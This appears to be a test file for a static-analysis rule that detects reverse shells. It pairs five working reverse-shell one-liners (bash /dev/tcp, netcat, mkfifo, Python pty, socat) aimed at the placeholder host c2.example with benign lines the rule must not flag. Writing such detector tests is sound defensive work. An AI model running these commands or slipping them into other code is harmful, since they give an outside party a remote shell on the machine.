#!/bin/bash
# ruleid: shell-reverse-shell
bash -i >& /dev/tcp/c2.example/4444 0>&1
# ruleid: shell-reverse-shell
nc -e /bin/sh c2.example 4444
# ruleid: shell-reverse-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example 4444 > /tmp/f
# ruleid: shell-reverse-shell
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("c2.example",1));os.dup2(s.fileno(),0);pty.spawn("sh")'
# ruleid: shell-reverse-shell
socat TCP:c2.example:4444 EXEC:/bin/bash
# ok: shell-reverse-shell
timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'
# ok: shell-reverse-shell
nc -z db.example 5432
# ok: shell-reverse-shell
bash -i
